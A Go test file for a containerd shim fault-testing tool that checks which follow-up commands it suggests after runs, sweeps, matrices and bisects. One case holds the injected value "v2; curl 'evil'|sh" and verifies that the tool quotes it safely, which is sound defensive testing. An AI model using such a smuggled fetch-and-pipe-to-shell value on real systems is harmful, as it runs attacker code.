package main

import (
	"bytes"
	"os"
	"strings"
	"testing"

	"github.com/shimquake/shimquake/bisect"
	"github.com/shimquake/shimquake/catalogue"
	"github.com/shimquake/shimquake/fixtures/containerd"
	"github.com/shimquake/shimquake/harness"
	"github.com/shimquake/shimquake/must"
	"github.com/shimquake/shimquake/oracle/finding"
	"github.com/shimquake/shimquake/sweep/matrix"
	"github.com/shimquake/shimquake/sweep/triage"
)

// The next steps can be typed, and belong to the worst finding.
func TestNext(t *testing.T) {
	leak := violated("shim task=none bundle=gone")
	leak.Name, leak.Version = "shutdown-error-once", "v2.3.7"
	other := violated("mount")
	other.Name, other.Version = "shutdown-error-once", "v2.3.7"
	other.Evidence = "out/evidence/x"
	back := leak
	back.Version = "v2.4.2"
	problem := func(kind harness.ProblemKind) harness.Verdict {
		return harness.Verdict{Outcome: harness.Invalid, Problems: []harness.Problem{{Kind: kind}}}
	}
	first := func(name string) bisectAnswer { return bisectAnswer{Result: bisect.Result{First: name}} }
	differs := matrix.Cell{Bug: "a", Case: "a-case", Release: "v2.3.7", Expect: matrix.Bad, Seen: matrix.Held}
	table := matrix.Table{Releases: []string{"v2.3.7"}, Bugs: []catalogue.Bug{{ID: "a"}},
		Cells: map[matrix.Key]matrix.Cell{{Bug: "a", Release: "v2.3.7"}: differs}}
	fresh := triage.Report{
		Version: "v2.4.2",
		New:     []triage.Cluster{{Name: "c", Shown: &triage.Shown{File: "f.yaml"}}},
	}
	for name, c := range map[string]struct {
		steps []step
		want  []string
	}{
		"a known bug": {afterRun(leak, "x", "out", 1),
			[]string{"open out/report.html", "show containerd-8981"}},
		"another leak": {afterRun(other, "x.yaml", "out", 1),
			[]string{"run --containerd v2.3.7 --count 20 x.yaml"}},
		"a bug that has come back": {afterRun(back, "x", "out", 20),
			[]string{"show containerd-8981", "REGRESSION: v2.4.2 should not have this bug"}},
		"another leak, again": {
			afterRun(other, "x.yaml", "out", 20),
			[]string{"run --containerd " + containerd.DefaultRelease + " --count 20 x.yaml", "bundle out/evidence/x"},
		},
		"a fault not met": {afterRun(problem(harness.ByMiss), "x", "out", 1), []string{"open out/report.html"}},
		"no such machine": {afterRun(problem(harness.ByMachine), "x", "out", 1), []string{"check"}},
		"all held":        {afterRun(harness.Verdict{Outcome: harness.Held}, "x", "out", 1), nil},
		"a cell differs":  {afterMatrix(table, "out"), []string{"--containerd v2.3.7 --count 20 a-case"}},
		"a first release": {afterBisect(first("v2.4.0"), "x", ""), []string{"run --containerd v2.4.0 x"}},
		"a first commit":  {afterBisect(first("abc"), "x", "../c"), []string{"git -C ../c show abc"}},
		"something is new": {
			afterSweep(fresh, "", "out"), []string{"open out/report.html", "run --containerd v2.4.2 f.yaml"},
		},
		"a version that is a command": {
			afterSweep(fresh, "v2; curl 'evil'|sh", "out"), []string{`--containerd 'v2; curl '\''evil'\''|sh' f.yaml`},
		},
		"of a source": {afterSweep(fresh, "src:DIR", "out"), []string{"run --containerd src:DIR f.yaml"}},
	} {
		var out bytes.Buffer
		must.Succeed(t, tellNext(&out, c.steps...))
		for _, want := range c.want {
			must.Contain(t, out.String(), want, name)
		}
		must.Equal(t, out.Len() == 0, len(c.want) == 0, name, &out)
	}
}

// The worst verdict of several says what comes next.
func TestWorse(t *testing.T) {
	if !worse(harness.Violated, harness.Invalid) || !worse(harness.Invalid, harness.Held) ||
		!worse(harness.Held, "") ||
		worse(harness.Held, harness.Violated) {
		t.Error("what is proven says most, and then what is not known")
	}
}

// A program is named as it was typed.
func TestSelf(t *testing.T) {
	was := os.Args[0]
	defer func() { os.Args[0] = was }()
	for typed, want := range map[string]string{"bin/shimquake": "bin/shimquake", "/tmp/x.test": "shimquake"} {
		if os.Args[0] = typed; self() != want {
			t.Errorf("%s: %s", typed, self())
		}
	}
	t.Setenv("SUDO_USER", "me")
	if os.Args[0] = "bin/shimquake"; asRoot() != "sudo bin/shimquake" {
		t.Error(asRoot())
	}
}

// The bug of the next command is the bug that the page shows, and its release has the
// bug.
func TestShownBug(t *testing.T) {
	v := violated("shim task=none bundle=gone")
	v.Name, v.Version = "shutdown-error-once", "v2.4.2"
	b, ok := shownBug(v)
	lines := tellBug(b, v.Version)
	if !ok || !strings.HasPrefix(lines[0], "a REGRESSION of the known bug containerd-8981") {
		t.Errorf("%s is fixed in %s: %v, %q", b.ID, v.Version, ok, lines)
	}
	said := strings.Join(tellBug(b, "v2.3.7"), "\n")
	for _, want := range []string{"the known bug", "cause: ", "fixed in v2.4.0",
		"https://github.com/containerd/containerd/issues/8981"} {
		if !strings.Contains(said, want) || strings.Contains(said, "REGRESSION") {
			t.Errorf("%q is not in %s", want, said)
		}
	}
	v.Version, v.Findings[0].Class = "v2.3.7", finding.ClassMount
	if b, ok := shownBug(v); ok {
		t.Errorf("%s leaves no mount", b.ID)
	}
}
